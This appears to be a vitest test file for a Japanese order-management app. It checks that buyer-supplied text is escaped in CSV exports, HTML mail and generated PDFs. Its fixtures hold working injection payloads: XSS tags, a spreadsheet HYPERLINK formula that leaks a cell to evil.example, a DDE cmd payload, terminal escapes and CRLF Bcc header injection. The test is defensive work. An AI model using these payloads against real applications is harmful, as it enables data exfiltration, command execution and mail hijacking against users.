import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { EXPORT_COLUMN_IDS } from '../../src-shared/api/csv-export.js';
import { configureMail } from '../helpers/mail.js';
import { insertOrders } from '../helpers/orders.js';
import { hasTool } from '../helpers/pdf-tools.js';
import { TestSmtpServer } from '../helpers/smtp.js';
import { createTestApp, type TestApp } from '../helpers/test-app.js';

/** User text that markup, spreadsheets, mail headers or terminals would act on. */
const HOSTILE = {
  name: '<img src=x onerror="window.__xss=1">山田',
  kana: '"><svg onload=alert(1)>ヤマダ',
  shipName: '=HYPERLINK("http://evil.example/?leak="&A1,"押して")',
  address1: "+cmd|' /C calc'!A0 千代田区",
  address2: '@SUM(1+1)\u0007\u001b[31m',
  comment: '-2+3 <script>window.__xss=1</script> \u202eTXT.EXE',
  title: '\t=1+1 有田焼 <b>マグ</b>',
  sku: '=cmd',
};
const FORMULA = /^[=+\-@\t\r]/;

let t: TestApp;
let id: number;
beforeEach(() => {
  t = createTestApp();
  t.app.ctx.database.sqlite
    .prepare(
      "INSERT INTO stores (id, name, postal_code, address, phone) VALUES ('tokyo', '<i>東京</i>本店', '103-0027', '東京都中央区', '03-1234-5678')",
    )
    .run();
  id = insertOrders(t.app.ctx.database.sqlite, [
    {
      order: {
        orderNo: 'ESC-0001',
        buyer: { name: HOSTILE.name, kana: HOSTILE.kana, email: 'buyer@example.jp', phone: '-1+2' },
        shipTo: {
          name: HOSTILE.shipName,
          postalCode: '100-0005',
          prefecture: '東京都',
          address1: HOSTILE.address1,
          address2: HOSTILE.address2,
          phone: '03',
        },
        orderComment: HOSTILE.comment,
        items: [{ lineNo: 1, sku: HOSTILE.sku, title: HOSTILE.title, quantity: 1, unitPrice: 1650, location: '<B-1>' }],
      },
      initial: { status: 'paid' },
    },
  ])[0]!;
});
afterEach(() => t.close());

describe('user text is inert wherever it is rendered', () => {
  for (const encoding of ['shift_jis', 'utf8bom'] as const) {
    it(`E9 CSV (${encoding}): no cell of any column starts a formula; the hostile text is kept, prefixed`, async () => {
      const result = await t.call('csvExport:run', { tab: 'paid', columns: [...EXPORT_COLUMN_IDS], encoding });
      const bytes = Buffer.from(result.file.base64, 'base64');
      const text = encoding === 'shift_jis' ? iconv.decode(bytes, 'cp932') : bytes.subarray(3).toString('utf8');
      const rows = parse(text, { relax_column_count: false }) as string[][];
      expect(rows).toHaveLength(2);
      const cells = rows[1]!;
      expect(cells.filter((c) => FORMULA.test(c) && !/^-?\d+$/.test(c))).toEqual([]);
      expect(cells).toContain(`'${HOSTILE.shipName}`);
      expect(cells.some((c) => c.startsWith(`'${HOSTILE.address1.slice(0, 5)}`))).toBe(true);
    });
  }

  it('mail: the HTML part escapes every value, the subject stays one line, the text part is literal', async () => {
    const smtp = await TestSmtpServer.start();
    try {
      await configureMail(t, smtp.port, { htmlPart: true });
      const result = await t.call('mail:send', { orderIds: [id], purpose: 'status' });
      expect(result.sent).toBe(1);
      const mail = await smtp.parse(smtp.received[0]!);
      const html = String(mail.html);
      // The only tags are the wrapper's own; the hostile values are entities.
      const tags = [...html.matchAll(/<\s*([a-z!]+)/gi)].map((m) => m[1]!.toLowerCase());
      expect(new Set(tags)).toEqual(new Set(['!doctype', 'html', 'head', 'meta', 'body', 'div']));
      expect(html).toContain('&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;山田');
      expect(mail.text).toContain(HOSTILE.name);
      expect(mail.subject ?? '').not.toMatch(/[\r\n]/);
      expect(smtp.received[0]!.to).toEqual(['buyer@example.jp']);
    } finally {
      await smtp.close();
    }
  });

  it('mail: a line break in a buyer address cannot add a recipient or a header', async () => {
    t.app.ctx.database.sqlite
      .prepare('UPDATE orders SET buyer_email = ?, buyer_name = ? WHERE id = ?')
      .run('buyer@example.jp\r\nBcc: spy@evil.example', '山田\r\nBcc: spy2@evil.example', id);
    const smtp = await TestSmtpServer.start();
    try {
      await configureMail(t, smtp.port);
      await t.call('mail:send', { orderIds: [id], purpose: 'status' });
      const everyone = smtp.seen.flatMap((m) => m.to);
      expect(everyone.filter((a) => a.includes('evil.example'))).toEqual([]);
      for (const raw of smtp.seen) expect(raw.raw.toString('latin1')).not.toMatch(/^Bcc:/im);
    } finally {
      await smtp.close();
    }
  });

  it.skipIf(!hasTool('pdftotext'))(
    'PDF (picking list, delivery note): the text is drawn as text, with no script or action in the file',
    async () => {
      t.app.ctx.settings.set('documents', { dir: path.join(t.dir, 'documents'), deliveryNotePrices: true });
      // The picking list names the buyer; the delivery note the ship-to.
      for (const [kind, shown] of [
        ['picking', HOSTILE.name],
        ['delivery_note', HOSTILE.shipName],
      ] as const) {
        const printed = await t.call('printing:run', { kind, orderIds: [id], output: 'pdf' });
        const raw = readFileSync(printed.filePath).toString('latin1');
        expect(raw).not.toMatch(/\/(JavaScript|JS|Launch|OpenAction|AA|URI|SubmitForm)\b/);
        const text = execFileSync('pdftotext', ['-raw', printed.filePath, '-'], { encoding: 'utf8' });
        // Long values are cut with … to fit their box: the start must be there, as plain text.
        expect(text.replace(/\s+/g, '')).toContain(shown.replace(/\s+/g, '').slice(0, 24));
        expect(JSON.stringify(text.match(/[\u0000-\u0008\u000b\u000e-\u001f]/g) ?? [])).toBe('[]');
      }
    },
  );
});
